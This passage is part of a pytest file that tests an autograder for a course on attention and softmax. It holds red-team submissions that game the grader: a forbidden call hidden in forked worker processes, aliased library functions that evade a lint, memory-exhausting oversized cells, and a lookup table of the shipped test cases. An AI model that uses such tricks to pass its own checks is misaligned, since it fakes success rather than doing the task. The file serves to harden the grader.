    return x * 0 + 1.0
""",
    ),
    Attack(
        # red team 2026-12-06 W1: 0 points, but the cell's 1 MB was parsed in the grading
        # process for each exercise not correct (8 s and 600 MB each: autograde 104 s); a cell
        # over the lint's MAX_CELL is now never parsed, run or shown
        # (test_a_huge_answer_cell_is_never_parsed_by_the_grader)
        HUGE_ANSWER_CELL,
        "03-softmax",
        "softmax-row",
        """
import numpy as np


def softmax_row(x):
    e = np.exp(np.asarray(x, dtype=float) - np.max(x))
    return e / e.sum()


"""
        + "a=(1,2)\n" * 131072,
        blank=("stable-softmax",),  # its layout note read every other cell
        alone=True,
    ),
    Attack(
        # the second red team of 2026-12-06: 0 points, but the answer's 4 MB string was quoted
        # twice in 4.2's reason (a 60 MB one: a 360 MB graded notebook, the grader at 2.9 GB)
        LONG_ANSWER_QUOTED,
        "04-reading-heatmaps",
        "name-the-patterns",
        """
def name_the_patterns():
    big = "x" * 4000000
    return {"A": big, "B": "hub", "C": "diagonal", "D": "uniform"}
""",
    ),
    Attack(
        # the same team: a stray 3 MB key, named in full in 7.1's reason (a 9.1 MB notebook)
        LONG_KEY_QUOTED,
        "07-test-your-understanding",
        "quiz-a",
        """
def quiz_a():
    return {"A1": 35, "Z" * 3000000: 1}
""",
    ),
    Attack(
        # the third red team of 2026-12-06: float() of 10**4000 overflowed in the check, the
        # grading of the whole notebook stopped (its right 1.3 lost too, nbgrader exited 1)
        "1.1-an-integer-too-large-for-a-float",
        "01-dot-product-scores",
        "lesson1-dot",
        """
def dot(q, k):
    return 10 ** 4000
""",
    ),
    # issue 41 (given 1 of 1 then): the task says "without @ or np.dot", the check took both;
    # and 8.1's "count them; do not build the array", read off an array of every score
    Attack(
        "1.1-the-matrix-product-the-task-rules-out",
        "01-dot-product-scores",
        "lesson1-dot",
        """
def dot(q, k):
    return q @ k
""",
    ),
    Attack(
        # red team 2026-12-06 W4 (given 1 of 1, fair 0): another library dot product; the
        # lint refuses np.inner, np.vdot, np.tensordot and np.linalg.multi_dot with @ now
        "1.1-a-library-dot-product-np-inner",
        "01-dot-product-scores",
        "lesson1-dot",
        """
import numpy as np


def dot(q, k):
    return float(np.inner(q, k))
""",
    ),
    Attack(
        "8.1-the-scores-built-to-read-their-size",
        "08-cost-of-attention",
        "scores-bytes",
        """
import numpy as np


def scores_bytes(n, heads, batch, dtype):
    return np.empty((batch, heads, n, n), dtype).nbytes
""",
    ),
    Attack(
        "5-six-megabyte-answer-cell",  # refused before it is parsed (host memory and time)
        "05-weighted-values",
        "mix-one",
        "def mix_one(w, values):\n    return w @ values\n\n\nTABLE = ["
        + ",".join(["1"] * 3_000_000)
        + "]\n",
    ),
    # ---- the eighth red team (issue 39): the forbidden softmax run in the children of the
    # process pool scipy.optimize.brute(workers=2) forks, where the tripwire of the grading
    # kernel sees nothing (lint-clean: the pool pickles a library callable by reference,
    # functools.reduce(attnlab.online_softmax, [-1], x) = online_softmax(x, -1)).
    # Given before the fix: 1 of 1 (the red team's lesson 3, 3.2 and 3.3 alike: 5 of 5)
    Attack(
        "3.1-forbidden-softmax-in-a-forked-child",
        "03-softmax",
        "softmax-row",
        """
import functools

import numpy as np
import attnlab
from scipy import optimize


def softmax_row(x):
    x = np.asarray(x, dtype=float)
    each = functools.partial(functools.reduce, attnlab.online_softmax)
    grid = optimize.brute(
        each, (slice(-1, 1, 1),), args=(x,), full_output=True, finish=None, workers=2
    )[3]
    return np.asarray(grid, dtype=float).reshape(2, -1)[0].reshape(x.shape)
""",
    ),
    # red team 2026-12-06 W2 (given 5 of 5, fair 0): the library log-sum-exp as a numpy ufunc
    # (no Python code runs, so the forbidden-call tripwire cannot see it); the lint forbids
    # numpy's logaddexp and logaddexp2 wherever scipy.special.logsumexp is forbidden (3.1,
    # 6.3 and 8.4 in tests/test_exercises_lesson3.py: a 3.1 row here would need a kernel more)
    Attack(
        "3.2-np-logaddexp-accumulate-imported-under-another-name",
        "03-softmax",
        "stable-softmax",
        """
import numpy as np
from numpy import logaddexp as lae


def stable_softmax(scores):
    s = np.asarray(scores, dtype=float)
    return np.exp(s - lae.accumulate(s, axis=-1)[..., -1:])
""",
    ),
    Attack(
        "3.3-np-logaddexp2-reduce-in-base-2",
        "03-softmax",
        "softmax-temperature",
        """
import numpy


def softmax_with_temperature(x, T):
    z = numpy.asarray(x, dtype=float) / T / numpy.log(2)
    return numpy.exp2(z - numpy.logaddexp2.reduce(z, axis=-1, keepdims=True))
""",
    ),
]


# ----------------------------------------------------------------------- the submissions
def _meta(cell) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {}) or {}


def _code(cell) -> str:
    source = cell.get("source", "")
    return source if isinstance(source, str) else "".join(source)


def grade_cells(source_nb) -> dict[str, str]:
    """solution grade_id -> grade cell grade_id."""
    solution_of = {}
    for cell in source_nb["cells"]:
        if cell["cell_type"] == "code" and _meta(cell).get("solution"):
            for name in defined_names(_code(cell)):
                solution_of[name] = _meta(cell)["grade_id"]
    return {
        solution_of[exercise.answer]: exercise.grade_id
        for exercise in checked_exercises(source_nb)
        if exercise.answer in solution_of
    }


def _stub(code: str) -> str:
    """The release's stub of a solution cell: its code before BEGIN SOLUTION, then raise."""
    head = code.split(BEGIN)[0].rstrip()
    return f"{head}\n    raise NotImplementedError()\n"


def _solution_cells(lesson: str) -> list[str]:
    path = ROOT / "source" / lesson / f"{lesson}.ipynb"
    return list(grade_cells(json.loads(path.read_text(encoding="utf-8"))))


# ------------------------------------------------------- a lookup table of the shipped cases
#: The exercises a table attack is written for (issue 39): 3.3 and 4.1, where a red team found
#: it, and those of the other exercises that a table of the package's cases also passed in
#: grading before the fix, where the attack joins a submission of its lesson that has room (no
#: grading kernel of its own; 0.1, 2.2 and 6.2 would each need one).
TABLE_ATTACKED = ("3.3", "4.1", "1.3", "1.4", "6.1", "8.1")


def _plain(value):
    """``value`` as a Python literal the answer cell can hold (an array as ``{"__array__":
    its list}``)."""
    import numpy as np

    if isinstance(value, np.ndarray):
        return {"__array__": value.tolist()}
    if isinstance(value, np.generic):
        return value.item()
    if isinstance(value, (tuple, list)):
        return type(value)(_plain(v) for v in value)
    if isinstance(value, dict):
        return {k: _plain(v) for k, v in value.items()}
    return value


#: The table attack's answer cell, after the table: the key of a call, and the value back.
TABLE_LOOKUP = """
def _key(args):
    key = []
    for a in args:
        try:
            key.append((np.shape(a), np.round(np.asarray(a, dtype=float), 9).ravel().tolist()))
        except (TypeError, ValueError):  # not numbers (a dtype's name)
            key.append(repr(a))
    return repr(key)


def _back(value):
    if isinstance(value, dict) and "__array__" in value:
        return np.array(value["__array__"])
    if isinstance(value, dict):
        return {k: _back(v) for k, v in value.items()}
    if isinstance(value, (tuple, list)):
        return type(value)(_back(v) for v in value)
    return value


def {answer}(*args):
    key = _key(args)
    if key in TABLE:
        return _back(TABLE[key])
    return np.zeros(np.shape(args[0]))
"""


def lookup_table_attack(exercise_id: str) -> Attack:
    """An answer cell that is a table of the reference outputs on every case the installed
    package's check tries (its shipped cases and those it draws from a fixed seed), as a
    student who read the wheel could write one; any other input gets zeros."""
    import copy

    from source_answers import worked_answer

    import attnlab.exercises

    exercise = attnlab.exercises.EXERCISES[exercise_id]
    worked, table, scope = worked_answer(exercise), {}, {}
    exec("import numpy as np\n" + TABLE_LOOKUP.replace("{answer}", "unused"), scope)

    def spy(*args):
        result = worked(*copy.deepcopy(args))
        table[scope["_key"](args)] = _plain(result)
        return result

    assert exercise.check(spy), exercise.title  # the learner's check, as the wheel runs it
    lesson = next(
        path.parent.name
        for path in sorted((ROOT / "source").glob("*/*.ipynb"))
        if path.parent.name.startswith(f"{exercise.lesson:02d}-")
    )
    source_nb = json.loads((ROOT / "source" / lesson / f"{lesson}.ipynb").read_text("utf-8"))
    cell = next(
        _meta(c)["grade_id"]
        for c in source_nb["cells"]
        if _meta(c).get("solution") and exercise.answer in defined_names(_code(c))
    )
    lookup = TABLE_LOOKUP.replace("{answer}", exercise.answer)
    code = f"import numpy as np\n\nTABLE = {table!r}\n{lookup}"
    return Attack(f"lookup-table-of-the-shipped-cases-{exercise_id}", lesson, cell, code)


ATTACKS += [lookup_table_attack(exercise_id) for exercise_id in TABLE_ATTACKED]


def _submissions() -> dict[str, list[Attack]]:
    """Submission name -> its attacks: one per solution cell, at least one cell left honest,
    alone ones by themselves."""
    groups: dict[str, list[list[Attack]]] = {}
    out = {}
    for attack in ATTACKS:
        if attack.alone:
            out[f"{attack.lesson}/{attack.name}"] = [attack]
            continue
        batches = groups.setdefault(attack.lesson, [])
        for batch in batches:
            used = {a.cell for a in batch} | {t.lstrip("-") for a in batch for t in a.targets}
            used |= {c for a in batch for c, _ in a.extra}
            mine = {attack.cell} | {t.lstrip("-") for t in attack.targets}
            mine |= {c for c, _ in attack.extra}
            room = len(used | mine) < len(_solution_cells(attack.lesson))
            if not used & mine and room:
                batch.append(attack)
                break
        else:
            batches.append([attack])
    for lesson, batches in groups.items():
        for number, batch in enumerate(batches, 1):
            out[f"{lesson}/{number}"] = batch
    return out


SUBMISSIONS = _submissions()
SUBMISSION_OF = {attack.name: name for name, batch in SUBMISSIONS.items() for attack in batch}


def _targets(attack: Attack) -> list[str]:
    return [t for t in (attack.targets or (attack.cell,)) if not t.startswith("-")]


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """A copy of the course; the grading process runs in it, as nbgrader's does."""
    folder = tmp_path_factory.mktemp("attacked-course")
    for name in ("source", "answer_keys"):
        shutil.copytree(
            ROOT / name,
            folder / name,
            ignore=shutil.ignore_patterns(".ipynb_checkpoints", "__pycache__"),
        )
    _make_repo_copy(REPO_COPY)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("ATTNLAB_ANSWER_KEYS", str(folder / "answer_keys"))
        patch.setenv("ATTNLAB_SOURCE", str(REPO_COPY / "source"))
        patch.chdir(folder)
        try:
            yield folder
        finally:
            shutil.rmtree(REPO_COPY, ignore_errors=True)


def _make_repo_copy(folder: Path) -> None:
    """A clone of the repository as an instructor keeps one: its sources, its keys (marked
    with :data:`KEY_MARK`) and a ``.git``."""
    for name in ("source", "answer_keys"):
        shutil.copytree(
            ROOT / name,
            folder / name,
            ignore=shutil.ignore_patterns(".ipynb_checkpoints", "__pycache__"),
        )
    key = folder / "answer_keys" / "lesson7.py"
    key.write_text(key.read_text(encoding="utf-8") + f"\n# {KEY_MARK}\n", encoding="utf-8")
    (folder / ".git").mkdir()
    (folder / ".git" / "HEAD").write_text(f"ref: refs/heads/main {KEY_MARK}\n")


def _restoring(classes):
    """Snapshots of the classes an attack on the grading process patches, to put back."""
    return [(cls, dict(vars(cls))) for cls in classes]


def _restore(snapshots) -> None:
    for cls, attrs in snapshots:
        for name in list(vars(cls)):
            if name not in attrs:
                delattr(cls, name)
        for name, value in attrs.items():
            if name not in ("__dict__", "__weakref__") and vars(cls).get(name) is not value:
                setattr(cls, name, value)


def _student_notebook(source_nb, attacks, blank_all=False) -> dict:
    """The source notebook with the attacks in their cells, the worked solutions (or, with
    ``blank_all`` or an attack's ``blank``, the release stub) in the other solution cells."""
    answers = {}
    for cell in source_nb["cells"]:
        if cell["cell_type"] == "code" and _meta(cell).get("solution"):
            code, grade_id = _code(cell), _meta(cell)["grade_id"]
            answers[grade_id] = "\n".join(
                line for line in code.splitlines() if line.strip() not in (BEGIN, END)
            )
            if blank_all or any(grade_id in a.blank for a in attacks):
                answers[grade_id] = _stub(code)
    for attack in attacks:
        answers[attack.cell] = _no_indent(attack.code)
        answers.update({cell: _no_indent(code) for cell, code in attack.extra})
    student_nb = json.loads(json.dumps(source_nb))
    for cell in student_nb["cells"]:
        if _meta(cell).get("grade_id") in answers and _meta(cell).get("solution"):
            cell["source"] = answers[_meta(cell)["grade_id"]]
    return student_nb


def _grade(course: Path, lesson: str, student_nb) -> dict:
    """{solution grade_id: (points, max_points, feedback)} from the real grading pipeline."""
    from attnlab.grading.grade import grade_notebook

    assert Path.cwd().resolve() == course.resolve()  # the attacks' /proc lookups land here
    path = course / "source" / lesson / f"{lesson}.ipynb"
    source_nb = json.loads(path.read_text(encoding="utf-8"))
    results = {r.grade_id: r for r in grade_notebook(source_nb, student_nb, path.parent)}
    return {
        solution: (results[g].points, results[g].max_points, str(results[g].feedback))
        for solution, g in grade_cells(source_nb).items()
    }


@contextlib.contextmanager
def _put_back(course: Path):
    """Undo what an attack on the grading process did: the classes it patched, the key file."""
    from attnlab.exercises import quiz
    from attnlab.exercises.kit.exercise import Exercise

    key = course / "answer_keys" / "lesson7.py"
    text = key.read_text(encoding="utf-8")
    snapshots = _restoring([Exercise, quiz.Question, quiz.Questions])
    try:
        yield
    finally:
        _restore(snapshots)
        key.write_text(text, encoding="utf-8")


def _source(course: Path, lesson: str) -> dict:
    return json.loads((course / "source" / lesson / f"{lesson}.ipynb").read_text("utf-8"))


@pytest.fixture(scope="module")
def graded_cost():
    """Submission name -> (seconds its grading took, the longest code the grading process
    parsed with ``ast.parse`` meanwhile), filled by :func:`graded`."""
    return {}


@pytest.fixture(scope="module")
def graded(course, graded_cost):
    """Submission name -> {solution grade_id: (points, max_points, feedback)}, graded lazily."""
    import ast
    import time

    cache: dict[str, dict] = {}

    def grade(name: str) -> dict:
        if name not in cache:
            attacks = SUBMISSIONS[name]
            lesson = attacks[0].lesson
            parse, longest = ast.parse, [0]

            def watched(source, *args, **kwargs):
                longest[0] = max(longest[0], len(source))
                return parse(source, *args, **kwargs)

            started = time.monotonic()
            with _put_back(course), pytest.MonkeyPatch.context() as patch:
                patch.setattr(ast, "parse", watched)
                cache[name] = _grade(
                    course, lesson, _student_notebook(_source(course, lesson), attacks)
                )
            graded_cost[name] = (time.monotonic() - started, longest[0])
        return cache[name]

    return grade


def _param(attack: Attack):
    marks = [pytest.mark.xfail(strict=True, reason=f"hole: {attack.hole}")] if attack.hole else []
    return pytest.param(attack, id=f"{attack.lesson[:2]}-{attack.name}", marks=marks)


#: The table CI prints at the end of the run (tests/conftest.py's ``table_line``).
SCORES = "attacks and right work: score given by the grading pipeline, fair score"


@pytest.mark.parametrize("attack", [_param(a) for a in ATTACKS])
def test_an_attack_earns_nothing_for_the_exercises_it_touches(attack, graded, table_line):
    scores = graded(SUBMISSION_OF[attack.name])
    for cell in [*_targets(attack), *attack.blank]:
        points, max_points, feedback = scores[cell]
        line = f"{attack.lesson[:2]} {attack.name} / {cell}: given {points:g} of {max_points:g}, fair 0"
        table_line(SCORES, line)
        print(f"\n{line}")
        assert max_points > 0
        assert points == 0, f"{attack.name}: {cell} earned {points} of {max_points}: {feedback}"


def test_a_flood_of_warnings_makes_no_long_feedback(graded):
    """An answer's own warnings reach the check's reason, at most a few of them: the worker
    reports 20 distinct ones per call, the reason names 4, each cut to 200 characters."""
    points, _, feedback = graded(SUBMISSION_OF[WARNING_FLOOD])["softmax-row"]
    print(f"\n{WARNING_FLOOD}: {len(feedback):,} characters of feedback")
    assert points == 0 and "numpy warned" in feedback and "more." in feedback, feedback[:2000]
    assert len(feedback) < 3000, len(feedback)


def test_a_huge_answer_cell_is_never_parsed_by_the_grader(graded, graded_cost):
    """A 1 MB answer cell is graded 0 with the reason, and the grading process parses no code
    longer than MAX_CELL (the layout note of each exercise not correct parsed every other
    cell: 8 s and 600 MB each); its feedback shows a note in place of the cell."""
    import nbformat

    from attnlab.exercises.rules.lint import MAX_CELL
    from attnlab.grading.execute import sanitize_notebook

    name = SUBMISSION_OF[HUGE_ANSWER_CELL]
    scores = graded(name)
    seconds, longest = graded_cost[name]
    print(f"\n{HUGE_ANSWER_CELL}: graded in {seconds:.1f} s, longest code parsed {longest:,}")
    points, _, feedback = scores["softmax-row"]
    assert points == 0 and f"longer than {MAX_CELL:,} characters is not graded" in feedback
    assert longest <= MAX_CELL, longest
    attack = SUBMISSIONS[name][0]
    student = nbformat.from_dict(_student_notebook(_source(ROOT, attack.lesson), [attack]))
    sanitize_notebook(student, course_feedback=True)
    shown = [c.source for c in student.cells if _meta(c).get("grade_id") == "softmax-row"]
    assert len(shown[0]) < 500 and "is not graded" in shown[0], shown[0][:200]


@pytest.mark.parametrize(
    ("name", "cell"), [(LONG_ANSWER_QUOTED, "name-the-patterns"), (LONG_KEY_QUOTED, "quiz-a")]
)
def test_an_answer_quoted_in_its_reason_makes_no_long_feedback(graded, name, cell):
    """A reason that quotes the answer is cut at MAX_MESSAGE characters, saying so."""
    from attnlab.exercises.kit.feedback import MAX_MESSAGE

    points, _, feedback = graded(SUBMISSION_OF[name])[cell]
    print(f"\n{name}: {len(feedback):,} characters of feedback")
    assert points == 0 and "more characters left out" in feedback, feedback[-300:]
    assert len(feedback) < MAX_MESSAGE + 500, len(feedback)


# ------------------------------------------------------------- right work keeps its points
@dataclass(frozen=True)
class RightWork:
    """A right answer written in a way the lint once refused or the wire once lost.

    ``change(worked)`` turns the cell's worked solution into the variant; it must earn full
    points, in the learner's check as in grading.
    """

    name: str
    lesson: str
    cell: str
    change: object


def _prepend(lines):
    return lambda worked: lines + worked


RIGHT_WORK = [
    RightWork(
        "import-copy",
        "03-softmax",
        "stable-softmax",
        lambda w: (
            "import copy\n"
            + w.replace("m = scores.max(", "scores = copy.deepcopy(scores)\n    m = scores.max(")
        ),
    ),
    RightWork(
        # issue 39 (0 of 1 then, the learner's check and nbgrader validate saying correct):
        # right floats in an array of objects, which the wire sent as an opaque value
        "object-array-of-floats-from-frompyfunc",
        "03-softmax",
        "softmax-row",
        lambda w: (
            "import math\n"
            "\n"
            "import numpy as np\n"
            "\n"
            "exp = np.frompyfunc(math.exp, 1, 1)  # Python's exp on every entry: objects\n"
            "\n"
            "\n"
            "def softmax_row(x):\n"
            '    """Softmax of one row of scores x (n,), with Python\'s math.exp."""\n'
            "    e = exp(np.asarray(x, dtype=float) - np.max(x))  # (n,) of Python floats\n"
            "    return e / e.sum()\n"
        ),
    ),
    RightWork(
        # issue 39 (0 of 2 then): np.ma.exp takes the exp of the masked-out raw scores too and
        # warned of their overflow, which cost the points, with advice about np.where
        "masked-array-softmax",
        "06-full-formula",
        "masked-softmax",
        lambda w: (
            "import numpy as np\n"
            "\n"
            "\n"
            "def masked_softmax(scores, mask):\n"
            '    """Row-wise softmax over the allowed keys, in a masked array."""\n'
            "    s = np.ma.masked_array(np.asarray(scores, dtype=float), mask=~np.asarray(mask))\n"
            "    e = np.ma.exp(s - s.max(axis=-1, keepdims=True))  # (n_q, n_k)\n"
            "    return (e / e.sum(axis=-1, keepdims=True)).filled(0.0)  # masked: 0\n"
        ),
    ),
    RightWork(
        "typing-tuple-and-a-namedtuple-result",
        "08-cost-of-attention",
        "tiled-loop",
        lambda w: (
            "from typing import Tuple\nimport collections\n"
            "Tiled = collections.namedtuple('Tiled', 'output tiles')\n"
            + w.replace("return output, tiles", "return Tiled(output, tiles)")
        ),
    ),
    RightWork(
        "dataclasses-and-functools",
        "03-softmax",
        "softmax-temperature",
        lambda w: (
            "import dataclasses\nimport functools\n"
            "@dataclasses.dataclass\nclass Settings:\n    axis: int = -1\n"
            "@functools.lru_cache(maxsize=None)\ndef unused(n):\n    return n\n" + w
        ),
    ),
    RightWork(
        "quiz-as-ordered-dict-with-a-fraction",
        "07-test-your-understanding",
        "quiz-a",
        lambda w: (
            "import collections\nimport fractions\n"
            + w.replace('"A2": 1 / np.sqrt(4)', '"A2": fractions.Fraction(1, 2)').replace(
                "return answers", "return collections.OrderedDict(answers)"
            )
        ),
    ),
    RightWork(
        # Jᵀ g as J g, the derivative of softmax along g, in one complex step: right because
        # the softmax Jacobian is symmetric, one forward pass, and the lesson says it counts
        # (it was a hole of the attack table until the lesson said so, 2026-12-06). Written
        # as the lesson does, s = log w, it warns of log(0) on the masked weights, which cost
        # its points until issue 41 (0 of 2 then)
        "one-complex-step-along-g",
        "09-watch-a-head-learn",
        "softmax-vjp",
        lambda w: (
            "import numpy as np\n"
            "\n"
            "\n"
            "def softmax_vjp(w, g):\n"
            '    """dL/ds from the softmax weights w and g = dL/dw, both (..., n)."""\n'
            "    w = np.asarray(w, dtype=float)\n"
            "    g = np.asarray(g, dtype=float)\n"
            "    s = np.log(w)  # as the lesson writes it: -inf (and a warning) for a 0\n"
            "    h = 1e-30\n"
            "    x = s + 1j * h * g\n"
            "    e = np.exp(x - x.real.max(axis=-1, keepdims=True))\n"
            "    return (e / e.sum(axis=-1, keepdims=True)).imag / h\n"
        ),
    ),
    RightWork(
        "helper-class-with-init",
        "08-cost-of-attention",
        "online-update",
        lambda w: (
            "import numpy as np\n"
            "\n"
            "\n"
            "class RunningSoftmax:\n"
            '    """The running max and sum of one row block."""\n'
            "\n"
            "    def __init__(self, m, l):\n"
            "        self.m = np.asarray(m, dtype=float)\n"
            "        self.l = np.asarray(l, dtype=float)\n"
            "\n"
            "    def fold(self, block):\n"
            "        new_m = np.maximum(self.m, block.max(axis=1))\n"
            "        shift = np.where(np.isfinite(new_m), new_m, 0.0)\n"
            "        self.l = self.l * np.exp(self.m - shift) + np.exp(block - shift[:, None]).sum(axis=1)\n"
            "        self.m = new_m\n"
            "        return self\n"
            "\n"
            "\n"
            "def online_update(m, l, block):\n"
            '    """Fold a block of scores (n_rows, b) into the running max m and sum l (n_rows,)."""\n'
            "    state = RunningSoftmax(m, l).fold(np.asarray(block, dtype=float))\n"
            "    return state.m, state.l\n"
        ),
    ),
    RightWork(
        # the sixth red team's (0 of 2 each, the learner's check saying correct): an unused
        # import whose library keeps large blocks (scipy.stats: 2.3 MB, counted as held), and
        # a try with the lesson's own peak_bytes, which stopped grading's memory tracing
        "unused-scipy-import-and-a-peak-bytes-try",
        "08-cost-of-attention",
        "tiled-loop",
        lambda w: (
            "from scipy import stats\n"
            + w
            + "\n\nprint(peak_bytes(tiled_loop, *np.random.default_rng(0)"
            ".standard_normal((3, 512, 16)), 64, False))\n"
        ),
    ),
    RightWork(
        # red team round 9 (F1; 0 of 2 then, the learner's check saying correct): the tiled
        # loop's answer cell ends with a try call on 4096 x 16 inputs, whose result IPython kept
        # in ``_``; grading counted it as held memory (552,841 bytes). Grading runs each cell
        # silently now: nothing is kept in the output cache
        "a-try-call-last-in-the-cell-kept-by-ipythons-output-cache",
        "08-cost-of-attention",
        "tiled-loop",
        lambda w: (
            w
            + "\n\n\ntiled_loop(*np.random.default_rng(0).normal(size=(3, 4096, 16)), 256, True)\n"
        ),
    ),
    RightWork(
        "namedtuple-replace",
        "08-cost-of-attention",
        "attention-step",
        lambda w: (
            "import numpy as np\n" + "from collections import namedtuple\n"
            "\n"
            'State = namedtuple("State", "m l acc")\n'
            "\n"
            "\n"
            "def attention_step(m, l, acc, scores, v_block):\n"
            '    """Fold one tile of scores (n_q, b) and its values (b, d_v) into m, l and acc."""\n'
            "    state = State(m, l, acc)\n"
            "    new_m = np.maximum(state.m, scores.max(axis=1))\n"
            "    scale = np.exp(state.m - new_m)\n"
            "    p = np.exp(scores - new_m[:, None])\n"
            "    state = state._replace(m=new_m, l=state.l * scale + p.sum(axis=1),\n"
            "                           acc=state.acc * scale[:, None] + p @ v_block)\n"
            "    return tuple(state)\n"
        ),
    ),
]


def _worked(lesson: str, cell: str) -> str:
    for c in _source(ROOT, lesson)["cells"]:
        if _meta(c).get("grade_id") == cell and _meta(c).get("solution"):
            return "\n".join(
                line for line in _code(c).splitlines() if line.strip() not in (BEGIN, END)
            )
    raise KeyError(cell)


def _right_notebook(source_nb, variants) -> dict:
    """The worked answers with every variant's change made, in turn where several change one
    cell (each keeps what the others changed)."""
    student_nb = _student_notebook(source_nb, [])
    for cell in student_nb["cells"]:
        changed = None
        for variant in variants:
            if _meta(cell).get("grade_id") == variant.cell and _meta(cell).get("solution"):
                changed = variant.change(changed or _worked(variant.lesson, variant.cell))
        if changed is not None:
            cell["source"] = changed
    return student_nb


@pytest.mark.parametrize("lesson", sorted({v.lesson for v in RIGHT_WORK}))
def test_right_work_in_any_reasonable_form_earns_full_points(lesson, course, table_line):
    variants = [v for v in RIGHT_WORK if v.lesson == lesson]
    for variant in variants:
        code = variant.change(_worked(lesson, variant.cell))
        assert code != _worked(lesson, variant.cell), variant.name  # the change took effect
    with _put_back(course):
        scores = _grade(course, lesson, _right_notebook(_source(course, lesson), variants))
    for variant in variants:
        points, max_points, feedback = scores[variant.cell]
        line = (
            f"{lesson[:2]} right work: {variant.name} / {variant.cell}: given {points:g} of "
            f"{max_points:g}, fair {max_points:g}"
        )
        table_line(SCORES, line)
        print(f"\n{line}")
        assert points == max_points, f"{variant.name}: {feedback}"


@pytest.mark.parametrize("name", [pytest.param(n, id=n.replace("/", "-")) for n in SUBMISSIONS])
def test_honest_answers_next_to_the_attacks_earn_full_points(name, graded):
    """The rest of each submission is the worked solutions: full points, so a test above that
    sees 0 is seeing the attack fail, not a grading pipeline that gives 0 to everything."""
    scores = graded(name)
    attacks = SUBMISSIONS[name]
    touched = (
        {a.cell for a in attacks}
        | {c for a in attacks for c, _ in a.extra}
        | {t.lstrip("-") for a in attacks for t in a.targets}
        | {b for a in attacks for b in a.blank}
    )
    honest = {c: s for c, s in scores.items() if c not in touched}
    honest.update({t[1:]: scores[t[1:]] for a in attacks for t in a.targets if t.startswith("-")})
    if not honest and len(_solution_cells(attacks[0].lesson)) == 1:
        pytest.skip(f"{attacks[0].lesson} has one answer cell, and the attack is in it")
    assert honest, name
    for cell, (points, max_points, feedback) in honest.items():
        assert points == max_points, f"{name}: honest {cell} earned {points}: {feedback}"


def test_the_submissions_are_grouped():
    """One grading kernel per submission; attacks on different exercises share one."""
    assert len(SUBMISSIONS) < len(ATTACKS)
    for batch in SUBMISSIONS.values():
        cells = [a.cell for a in batch]
        assert len(cells) == len(set(cells)) and len({a.lesson for a in batch}) == 1


OVERWRITE = next(a for a in ATTACKS if a.name == "answer-key-overwritten")


def test_one_submission_cannot_change_the_next_students_grade(course):
    """A blank lesson 7 graded after the key-overwriting submission still earns nothing."""
    lesson = OVERWRITE.lesson
    with _put_back(course):
        _grade(course, lesson, _student_notebook(_source(course, lesson), [OVERWRITE]))
        blank = _grade(course, lesson, _student_notebook(_source(course, lesson), [], True))
    earned = {cell: points for cell, (points, _, _) in blank.items() if points}
    assert not earned, f"a blank notebook earned {earned}"


@pytest.mark.slow
def test_the_key_overwrite_through_nbgrader_autograde(tmp_path):
    """The same attack through stock ``nbgrader autograde`` in a course built by the test:
    the attacker (answer cell only) and a blank notebook graded after it must both score 0."""
    import graded_course as gc

    course = gc.make_course(tmp_path)
    lesson = OVERWRITE.lesson
    gc.nbgrader(course, "generate_assignment", lesson, "--force")
    release_nb = gc.read(course / "release" / lesson / f"{lesson}.ipynb")
    attacked = json.loads(json.dumps(release_nb))
    for cell in attacked["cells"]:
        if _meta(cell).get("grade_id") == OVERWRITE.cell:
            cell["source"] = _no_indent(OVERWRITE.code)
    gc.write_submission(course, "a-attacker", lesson, attacked)
    gc.write_submission(course, "b-blank", lesson, release_nb)
    gc.nbgrader(course, "autograde", lesson, "--create")
    scores = gc.scores(course, lesson)
    print("\nnbgrader autograde, key overwrite:", scores)
    assert scores["a-attacker"][0] == 0 and scores["b-blank"][0] == 0, scores


def test_no_lesson_cell_rebinds_an_answer_after_its_solution_cell():
    """Grading runs every lesson cell before any check, so a later lesson cell that assigns an
    answer's name (lesson 8 had ``tiled = attnlab.tiled_attention(...)`` after Exercise 8.4)
    gives every student 0 for that exercise."""
    import ast

    found = []
    for path in sorted((ROOT / "source").glob("*/*.ipynb")):
        answers: dict[str, int] = {}
        for index, cell in enumerate(json.loads(path.read_text("utf-8"))["cells"]):
            if cell["cell_type"] != "code" or _meta(cell).get("grade"):
                continue
            code = _code(cell)
            if _meta(cell).get("solution"):
                answers.update(dict.fromkeys(defined_names(code), index))
                continue
            try:
                tree = ast.parse(code)
            except SyntaxError:  # IPython magics: nothing assigned there
                continue
            bound = {
                n.id
                for n in ast.walk(tree)
                if isinstance(n, ast.Name) and isinstance(n.ctx, (ast.Store, ast.Del))
            }
            bound |= {
                n.name for n in ast.walk(tree) if isinstance(n, (ast.FunctionDef, ast.ClassDef))
            }
            found += [
                f"{path.name} cell {index}: {name}" for name in sorted(bound & answers.keys())
            ]
    assert found == []


#: Right work the red team of 2026-11-29 saw lose its points (0 of 2, "raised TypeError: 'range'
#: object is not callable"): a helper of the answer cell named like a variable a later lesson cell
#: assigns (lesson 8 has ``starts = range(0, 4, block)``), when grading ran every lesson cell
#: before the checks. Each check now runs where its grade cell stands.
HELPER_NAMED_LIKE_A_LESSON_VARIABLE = RightWork(
    "helper-named-starts",
    "08-cost-of-attention",
    "tiled-loop",
    lambda w: (
        "import numpy as np\n"
        "\n"
        "\n"
        "def starts(n, block):\n"
        "    return range(0, n, block)\n"
        "\n"
        "\n"
        "def tiled_loop(q, k, v, block, causal):\n"
        "    n_q, n_k, d_v = len(q), len(k), v.shape[1]\n"
        "    scale = 1.0 / np.sqrt(q.shape[1])\n"
        "    out = np.empty((n_q, d_v))\n"
        "    tiles = 0\n"
        "    for i0 in starts(n_q, block):\n"
        "        i1 = min(i0 + block, n_q)\n"
        "        m = np.full(i1 - i0, -np.inf)\n"
        "        l = np.zeros(i1 - i0)\n"
        "        acc = np.zeros((i1 - i0, d_v))\n"
        "        for j0 in starts(n_k, block):\n"
        "            j1 = min(j0 + block, n_k)\n"
        "            if causal and j0 > i1 - 1:\n"
        "                break\n"
        "            s = q[i0:i1] @ k[j0:j1].T * scale\n"
        "            if causal:\n"
        "                later = np.arange(j0, j1)[None, :] > np.arange(i0, i1)[:, None]\n"
        "                s = np.where(later, -np.inf, s)\n"
        "            m_new = np.maximum(m, s.max(axis=1))\n"
        "            alpha = np.exp(m - m_new)\n"
        "            p = np.exp(s - m_new[:, None])\n"
        "            l = l * alpha + p.sum(axis=1)\n"
        "            acc = acc * alpha[:, None] + p @ v[j0:j1]\n"
